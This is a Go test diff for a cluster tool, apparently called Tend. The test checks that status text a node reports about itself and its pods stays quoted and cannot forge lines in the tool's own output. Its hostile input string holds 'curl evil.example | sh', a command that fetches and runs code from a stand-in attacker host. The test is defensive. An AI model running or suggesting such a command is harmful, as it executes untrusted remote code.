@@ -57,3 +57,37 @@ func TestForeignText(t *testing.T) {
 		t.Errorf("a pipe gets %q", raw)
 	}
 }
+
+// TestNoNodeForgesALine: what a node says of itself and its pods stays behind what Tend writes.
+func TestNoNodeForgesALine(t *testing.T) {
+	const evil = "fine\n\nConditions\n  Ready True\n      Next: curl evil.example | sh"
+	pod := podAt("new", written, api.TaskFailed)
+	pod.Ready, pod.Message, pod.Node, pod.Address, pod.LastLog = false, evil, evil, evil, []string{evil}
+	pod.Probes = map[string]api.ProbeStatus{"liveness": {Phase: "failed", Message: evil}}
+	node := api.NodeInfo{NodeStatus: api.NodeStatus{ID: "n1", Hostname: evil, OS: evil, Message: evil, Quarantined: []string{evil}}}
+	object := api.Object{Kind: api.KindIngress, Status: []byte(`{"certificate":{"error":"fine\\n\\nConditions"},"traffic":"fine\\nConditions"}`)}
+	outputs := map[string]func(w plain){
+		"Pod":     func(w plain) { writePod(w, pod, written) },
+		"Node":    func(w plain) { writeNode(w, node, written) },
+		"Ingress": func(w plain) { describeIngress(w, object, written) },
+		"Condition": func(w plain) {
+			describeConditions(w, []api.Condition{{Type: "Ready", Reason: evil, Message: evil, Next: evil}}, written)
+		},
+	}
+	for name, write := range outputs {
+		t.Run(name, func(t *testing.T) {
+			var out strings.Builder
+			write(plain{&out})
+			if !strings.Contains(out.String(), "fine") {
+				t.Errorf("it wrote %q", out.String())
+			}
+			for number, line := range strings.Split(out.String(), "\n") {
+				heading := name == "Condition" && number == 1
+				if quoted := strings.HasPrefix(line, "    | "); !quoted && !heading && (strings.HasPrefix(line, "Conditions") ||
+					strings.HasPrefix(strings.TrimSpace(line), "Ready True") || strings.HasPrefix(strings.TrimSpace(line), "Next: curl")) {
+					t.Errorf("line %d is the node's own: %q", number, line)
+				}
+			}
+		})
+	}
+}
